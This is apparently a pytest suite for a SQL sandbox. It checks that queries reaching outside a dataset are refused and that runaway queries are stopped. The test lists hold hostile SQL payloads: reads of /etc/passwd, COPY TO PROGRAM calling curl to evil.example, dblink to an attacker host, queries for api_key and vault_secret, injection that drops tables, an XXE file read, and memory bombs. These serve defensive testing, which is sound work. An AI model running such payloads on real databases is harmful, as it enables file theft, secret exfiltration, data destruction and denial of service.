"""Attacks on the SQL door: what reaches beyond the records is refused, what would eat the machine is stopped."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import psycopg
import pytest

from datasets_kit import Bench, Desk
from gristmill.base.db import Database
from gristmill.datasets import querying
from gristmill.datasets.querying import query
from gristmill.sources import QueryFailed, QueryRefused, SourceLimits, sandbox
from gristmill.sources.memory import bound_memory

SECRET = "root:x:0:0"


@pytest.fixture(scope="module")
def bench(own_database: Database) -> Bench:
    made = Bench.make(own_database)
    made.create("id,name,n\n" + "".join(f"{number},n{number},{number}\n" for number in range(200)))
    made.build()
    return made


def ask(bench: Bench, text: str, **more: Any) -> Any:
    scope = bench.scope
    return query(bench.database, scope.organization_id, scope.agent_id, bench.dataset_id, text, **more)


@pytest.mark.parametrize(
    "text",
    [
        # Files
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
        "SELECT ('/etc/passwd'::text).pg_read_file",
        "SELECT f.pg_read_file FROM (SELECT '/etc/passwd'::text) f(x)",
        "SELECT (f).pg_ls_dir FROM unnest(ARRAY['/']) f",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_get(1)",
        "COPY records TO '/tmp/out'",
        "COPY (SELECT 1) TO PROGRAM 'curl http://evil.example'",
        "COPY records FROM PROGRAM 'id'",
        "SELECT * FROM pg_ls_logdir()",
        "LOAD 'plpgsql'",
        "CREATE EXTENSION file_fdw",
        # Network
        "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)",
        "SELECT inet_server_addr()",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
        "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p",
        "NOTIFY evil",
        # Other databases and settings, as other engines and this one have them
        "ATTACH DATABASE '/tmp/x.db' AS x",
        "PRAGMA database_list",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM '/etc/passwd'",
        "SELECT load_extension('x')",
        "SET statement_timeout = 0",
        "SET ROLE postgres",
        "RESET ROLE",
        "SHOW data_directory",
        "SELECT set_config('statement_timeout', '0', false)",
        "SELECT current_setting('data_directory')",
        "SELECT set_config('gristmill.organization_id', '1', false) FROM records",
        "SELECT current_user",
        "SELECT version()",
        # Others' data, by whatever name
        "SELECT * FROM dataset",
        "SELECT * FROM public.dataset_record",
        "SELECT * FROM datasets.rows_1",
        'SELECT * FROM "datasets"."rows_1"',
        "SELECT * FROM gristmill.public.api_key",
        "TABLE organization",
        "SELECT * FROM records, api_key",
        "SELECT (SELECT count(*) FROM embedding) FROM records",
        "WITH records AS (SELECT * FROM vault_secret) SELECT * FROM records",
        "SELECT * FROM records WHERE id IN (SELECT id FROM dataset)",
        "SELECT * FROM records UNION ALL SELECT * FROM organization",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_stat_activity",
        "SELECT query_to_xml('SELECT * FROM dataset', true, true, '')",
        "SELECT table_to_xml('dataset', true, true, '')",
        "SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM api_key')",
        "SELECT 'dataset'::regclass",
        "SELECT to_regclass('dataset')",
        "SELECT app_organization()",
        "SELECT pg_get_viewdef(1)",
        "SELECT nextval('dataset_id_seq')",
        # Changes and more than one statement
        "DELETE FROM records",
        "WITH gone AS (DELETE FROM records RETURNING *) SELECT * FROM gone",
        "SELECT * INTO mine FROM records",
        "SELECT * FROM records FOR UPDATE",
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP TABLE dataset",
        "SELECT 1) AS gm_query; DROP TABLE dataset; --",
        "DO $$ BEGIN PERFORM 1; END $$",
        "CALL evil()",
        "EXPLAIN ANALYZE SELECT 1",
        "PREPARE p AS SELECT 1",
        "VACUUM",
        "LOCK TABLE dataset",
        "DECLARE c CURSOR FOR SELECT 1",
        # Time and locks of others
        "SELECT pg_sleep(100)",
        "SELECT q.pg_sleep FROM unnest(ARRAY[30.0]) q",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_terminate_backend(pg_backend_pid())",
        "SELECT pg_cancel_backend(1)",
    ],
)  # fmt: skip
def test_what_reaches_beyond_the_records_is_refused_before_it_runs(bench: Bench, text: str) -> None:
    with pytest.raises(QueryRefused):
        ask(bench, text)


ENTITY = "xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>')"


@pytest.mark.parametrize(
    "text",
    [
        f"SELECT {ENTITY}::text",
        f"SELECT x FROM xmltable('/a' PASSING {ENTITY} COLUMNS x text PATH '.')",
        f"SELECT xpath('/a/text()', {ENTITY})",
    ],
)
def test_entities_of_xml_read_no_files(bench: Bench, text: str) -> None:
    assert SECRET in Path("/etc/passwd").read_text(), "the file has what must not be seen"
    try:
        answer = str(ask(bench, text).rows)
    except QueryFailed as error:
        answer = error.message
    assert SECRET not in answer


@pytest.fixture
def bounded(own_database: Database) -> None:
    """The tests of memory need what the server process is bounded by."""
    with psycopg.connect(own_database.url) as connection:
        if not bound_memory(connection, sandbox.MEMORY_GROWTH_MAX):
            pytest.skip("the memory of a server process can't be bounded here")


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize(
    "text",
    [
        "SELECT length(repeat('x', 1000 * 300000)), length(repeat('x', 1000 * 300000))",
        "SELECT array_length(array_agg(repeat('x', 1000000)), 1) FROM generate_series(1, 100000)",
        "SELECT length(string_agg(repeat('x', 1000000), '')) FROM generate_series(1, 100000)",
        "SELECT length(jsonb_agg(repeat('x', 1000000))::text) FROM generate_series(1, 100000)",
        "SELECT array_length(array_fill(1, ARRAY[1000 * 1000 * 100]), 1)",
        "WITH RECURSIVE t(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) FROM t",
        "WITH RECURSIVE t(a) AS (SELECT ARRAY[1] UNION ALL SELECT a || a FROM t) SELECT max(cardinality(a)) FROM t",
        "SELECT length(string_agg(r::text || repeat('x', 50000), '')) FROM records r, records s",
    ],
)
def test_a_memory_bomb_ends_alone(bench: Bench, text: str) -> None:
    started = time.monotonic()
    with pytest.raises(QueryFailed, match=r"more than the 256 MB of memory") as failed:
        ask(bench, text)
    assert time.monotonic() - started < 9
    assert failed.value.errors[0].field == "sql"
    assert ask(bench, "SELECT count(*) FROM records").rows == [[200]]


def test_a_query_within_its_memory_runs(bench: Bench) -> None:
    text = "SELECT count(*) FROM (SELECT array_agg(md5(g::text)) AS a FROM generate_series(1, 300000) g) s"
    assert ask(bench, text).rows == [[1]]


def test_files_of_sorts_are_bounded(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "FILES_MAX", "2MB")
    monkeypatch.setattr(sandbox, "WORK_MEMORY", "1MB")
    with pytest.raises(QueryFailed, match="temp_file_limit"):
        ask(bench, "SELECT count(*) FROM (SELECT md5(g::text) FROM generate_series(1, 300000) g ORDER BY 1) s")


@pytest.mark.parametrize(
    "text",
    [
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t) SELECT n FROM t WHERE n > 1",
        "SELECT max(md5(a.name || g)) FROM records a, generate_series(1, 50000) g",
        "SELECT length(factorial(30000)::text)",
    ],
)
def test_what_never_ends_is_stopped(bench: Bench, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(querying, "LIMITS", SourceLimits(statement_ms=500, total_s=2.0))
    started = time.monotonic()
    with pytest.raises(QueryFailed, match="longer than"):
        ask(bench, text)
    assert time.monotonic() - started < 8


def test_a_join_of_a_small_dataset_with_itself_runs(bench: Bench) -> None:
    """The plan is judged by the true number of rows, not by what the planner takes an unknown table to have."""
    assert ask(bench, "SELECT count(*) FROM records a, records b, records c").rows == [[8_000_000]]


@pytest.mark.parametrize(
    "text",
    [
        "SELECT count(*) FROM generate_series(1, 9000000000) g",
        "SELECT count(*) FROM records a, records b, records c, records d",
        "SELECT a.n FROM records a JOIN records b ON true JOIN generate_series(1, 100000) c ON true LIMIT 1",
    ],
)
def test_a_plan_of_far_more_rows_than_there_are_is_not_run(bench: Bench, text: str) -> None:
    with pytest.raises(QueryRefused, match="rows on its way"):
        ask(bench, text)


def test_too_many_at_once_are_told_to_come_again(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    made = desk.make()
    body = {"dataset_id": made["id"], "sql": "SELECT count(*) FROM records"}
    monkeypatch.setattr(querying.TURNS, "_present_max", 0)
    refused = desk.caller.post(f"{desk.path}/query", body)
    assert (refused.status_code, refused.json()["code"], refused.headers["Retry-After"]) == (429, "rate_limited", "2")
    monkeypatch.undo()
    assert desk.caller.post(f"{desk.path}/query", body).status_code == 200
